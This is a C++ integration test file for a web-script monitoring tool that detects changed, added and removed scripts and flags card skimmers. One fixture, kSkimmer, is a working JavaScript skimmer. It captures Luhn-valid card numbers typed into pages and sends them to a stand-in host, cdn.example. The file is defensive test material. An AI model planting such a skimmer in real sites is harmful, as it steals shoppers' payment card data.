#include <signal.h>
#include <sys/wait.h>

#include <algorithm>
#include <cstddef>
#include <filesystem>
#include <fstream>
#include <map>
#include <string>
#include <vector>

#include "absl/strings/escaping.h"
#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "skimwatch/v1/query_service.grpc.pb.h"
#include "tests/integration/support/cards.h"
#include "tests/integration/support/deployment.h"

namespace skimwatch::integration {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::UnorderedElementsAre;

// How soon a change is to be in the store. A sanitizer takes several times as long for everything.
#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
constexpr absl::Duration kSoon = absl::Seconds(5);
#else
constexpr absl::Duration kSoon = absl::Seconds(1);
#endif

constexpr char kChat[] = "function chat() { open('/session'); }\n";

// A script as a skimmer leaves it: it knows a card number when it sees one.
constexpr char kSkimmer[] =
    "function chat() { open('/session'); }\n"
    "function luhn(n) { let s = 0; for (let i = 0; i < n.length; i++) {\n"
    "  let d = n[n.length - 1 - i] - '0'; if (i % 2 == 1) { d *= 2; if (d > 9) d -= 9; } s += d; "
    "}\n"
    "  return s % 10 == 0; }\n"
    "document.addEventListener('input', e => { const m = e.target.value.match(/[0-9]{13,16}/);\n"
    "  if (m && luhn(m[0])) fetch('https://cdn.example/p?' + btoa(m[0])); });\n";

// A script's change as `CHANGED js/chat.js`.
std::string Describe(const v1::Finding& finding) {
  std::string change = v1::ScriptChange::Change_Name(finding.script_change().change());
  return change.substr(std::string("CHANGE_").size()) + " " + finding.script_change().script();
}

class Scripts : public ::testing::Test {
 protected:
  void SetUp() override {
    root_ = deployment_.site_folder() + "/html";
    std::filesystem::create_directories(root_ + "/js");
    Put("js/chat.js", kChat);
    Put("js/shop.js", "function pay() { document.forms[0].submit(); }\n");
    Put("checkout.html", "<html><body><script>pay();</script></body></html>\n");
    deployment_.agent_yaml = absl::StrCat("sources: { web_roots: [{ path: ", root_, " }] }\n");
    ASSERT_NO_FATAL_FAILURE(deployment_.StartCollector());
    ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
    ASSERT_TRUE(testing::WaitUntil([&] { return Changes().size() == 3; }));
    ASSERT_THAT(Changes(), UnorderedElementsAre("PROPOSED js/chat.js", "PROPOSED js/shop.js",
                                                "PROPOSED checkout.html#inline-1"));
  }

  // Whole or not at all, as a deployment does it.
  void Put(const std::string& name, const std::string& text) const {
    const std::string beside = deployment_.site_folder() + "/new";
    std::ofstream(beside) << text;
    std::filesystem::rename(beside, root_ + "/" + name);
  }

  std::vector<v1::Finding> ChangeFindings() {
    std::vector<v1::Finding> changes;
    for (const v1::StoredFinding& stored : deployment_.Findings()) {
      if (stored.finding().has_script_change()) changes.push_back(stored.finding());
    }
    return changes;
  }
  std::vector<std::string> Changes(size_t from = 0) {
    std::vector<std::string> changes;
    for (const v1::Finding& finding : ChangeFindings()) changes.push_back(Describe(finding));
    changes.erase(changes.begin(),
                  changes.begin() + static_cast<std::ptrdiff_t>(std::min(from, changes.size())));
    return changes;
  }

  // Waits for one more change than `before`; fails when it takes longer than a person would wait.
  void ExpectSoon(size_t before, const std::string& change) {
    const absl::Time caused = absl::Now();
    ASSERT_TRUE(testing::WaitUntil([&] { return Changes().size() > before; }));
    EXPECT_LT(absl::Now() - caused, kSoon) << change;
    EXPECT_THAT(Changes(before), ElementsAre(change));
  }

  // By name: the version that is served now.
  std::map<std::string, v1::Finding> Latest() {
    std::map<std::string, v1::Finding> latest;
    for (const v1::Finding& finding : ChangeFindings()) {
      latest[finding.script_change().script()] = finding;
    }
    return latest;
  }

  void Approve(const std::string& name) {
    const std::string hash =
        absl::BytesToHexString(Latest().at(name).script_change().current().sha256());
    const testing::Result result =
        deployment_.Ctl({"scripts", "approve", name, hash, "--justification", "read by the test"});
    EXPECT_EQ(result.code, 0) << result.out << result.err;
  }

  void ApproveAll() {
    for (const char* name : {"js/chat.js", "js/shop.js", "checkout.html#inline-1"}) Approve(name);
    // The policy reaches the agent, which says so to the collector.
    EXPECT_TRUE(testing::WaitUntil(
        [&] { return deployment_.AgentMetric("skimwatch_web_root_unapproved_scripts") == 0; }));
    EXPECT_TRUE(testing::WaitUntil([&] {
      const std::vector<v1::Agent> agents = deployment_.Agents();
      return agents.size() == 1 && static_cast<double>(agents[0].policy_version()) ==
                                       deployment_.AgentMetric("skimwatch_policy_version");
    }));
  }

  void ExpectOpenExposures(size_t count) {
    size_t open = 0;
    for (const v1::Exposure& exposure : deployment_.Exposures()) {
      if (exposure.state() == v1::Exposure::STATE_OPEN) ++open;
    }
    EXPECT_EQ(open, count);
  }

  // A full look of the agent that runs has ended, and all that it found is stored.
  void WaitForLook() {
    ASSERT_TRUE(testing::WaitUntil([&] {
      const std::string page = deployment_.AgentGet("/metrics");
      return MetricOf(page, "skimwatch_web_root_rescans_total") >= 1 &&
             MetricOf(page, "skimwatch_web_root_scripts") >= 3 &&
             MetricOf(page, "skimwatch_findings_queued") == 0 &&
             MetricOf(page, "skimwatch_spool_pending_findings") == 0;
    }));
  }

  Deployment deployment_;
  std::string root_;
};

TEST_F(Scripts, AChangeIsStoredWithinASecondAndItsReturnClosesIt) {
  ApproveAll();
  ExpectOpenExposures(0);
  Put("js/chat.js", kSkimmer);
  ASSERT_NO_FATAL_FAILURE(ExpectSoon(3, "CHANGED js/chat.js"));
  const v1::ScriptChange change = Latest().at("js/chat.js").script_change();
  EXPECT_EQ(change.previous().size_bytes(), std::string(kChat).size());
  EXPECT_EQ(change.current().size_bytes(), std::string(kSkimmer).size());
  std::vector<std::string> gained;
  for (const v1::ScriptFact& fact : change.gained_facts()) gained.push_back(fact.name());
  EXPECT_THAT(gained, ::testing::IsSupersetOf({"card_number_pattern", "luhn_routine"}));
  EXPECT_THAT(change.diff(), HasSubstr("+function luhn(n)"));
  ExpectOpenExposures(1);
  EXPECT_TRUE(testing::WaitUntil(
      [&] { return deployment_.AgentMetric("skimwatch_web_root_unapproved_scripts") == 1; }));

  Put("js/chat.js", kChat);
  ASSERT_NO_FATAL_FAILURE(ExpectSoon(4, "RESTORED js/chat.js"));
  ExpectOpenExposures(0);
  // The agent reports before it counts.
  EXPECT_TRUE(testing::WaitUntil(
      [&] { return deployment_.AgentMetric("skimwatch_web_root_unapproved_scripts") == 0; }));
}

TEST_F(Scripts, ARestartProposesNothingAgain) {
  ApproveAll();
  for (const int signal : {SIGTERM, SIGKILL, SIGKILL}) {
    deployment_.StopAgent(signal);
    ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
    ASSERT_NO_FATAL_FAILURE(WaitForLook());
    EXPECT_THAT(Changes(3), IsEmpty());
    EXPECT_TRUE(testing::WaitUntil(
        [&] { return deployment_.AgentMetric("skimwatch_web_root_unapproved_scripts") == 0; }));
  }
}

TEST_F(Scripts, WhatChangesWhileTheAgentIsDownIsReportedAtItsStart) {
  ApproveAll();
  ASSERT_EQ(deployment_.StopAgent(SIGTERM), 0);
  Put("js/chat.js", kSkimmer);
  Put("js/new.js", "newcomer();\n");
  std::filesystem::remove(root_ + "/checkout.html");
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  ASSERT_TRUE(testing::WaitUntil([&] { return Changes().size() >= 6; }));
  EXPECT_THAT(Changes(3), UnorderedElementsAre("CHANGED js/chat.js", "ADDED js/new.js",
                                               "REMOVED checkout.html#inline-1"));
}

TEST_F(Scripts, WhatChangesWhileTheCollectorIsDownArrivesAfterwardsOnce) {
  ApproveAll();
  ASSERT_TRUE(WIFSIGNALED(deployment_.StopCollector(SIGKILL)));
  Put("js/chat.js", kSkimmer);
  ASSERT_TRUE(testing::WaitUntil(
      [&] { return deployment_.AgentMetric("skimwatch_spool_pending_findings") == 1; }));
  Put("js/chat.js", kChat);
  ASSERT_TRUE(testing::WaitUntil(
      [&] { return deployment_.AgentMetric("skimwatch_spool_pending_findings") == 2; }));
  ASSERT_NO_FATAL_FAILURE(deployment_.StartCollector());
  ASSERT_TRUE(testing::WaitUntil([&] { return Changes().size() >= 5; }));
  EXPECT_THAT(Changes(3), ElementsAre("CHANGED js/chat.js", "RESTORED js/chat.js"));
  ExpectOpenExposures(0);
}

TEST_F(Scripts, ANumberInAScriptIsFoundAndKeptNowhere) {
  ApproveAll();
  Put("js/chat.js", absl::StrCat(kChat, "// card number for tests: ", CardNumber(0), "\n"));
  ASSERT_NO_FATAL_FAILURE(ExpectSoon(3, "CHANGED js/chat.js"));
  ASSERT_TRUE(deployment_.WaitForCards(1));
  ASSERT_EQ(deployment_.StopAgent(SIGTERM), 0);
  deployment_.ExpectEachCard(1, 1);
  EXPECT_THAT(Latest().at("js/chat.js").script_change().diff(),
              Not(HasSubstr(CardNumber(0).substr(6))));
  deployment_.ExpectNoNumberKept(1);
  const testing::Result diff = deployment_.Ctl({"scripts", "diff", "js/chat.js"});
  EXPECT_EQ(diff.code, 0) << diff.err;
  EXPECT_THAT(CardsIn(diff.out + diff.err, 1), IsEmpty());
}

}  // namespace
}  // namespace skimwatch::integration
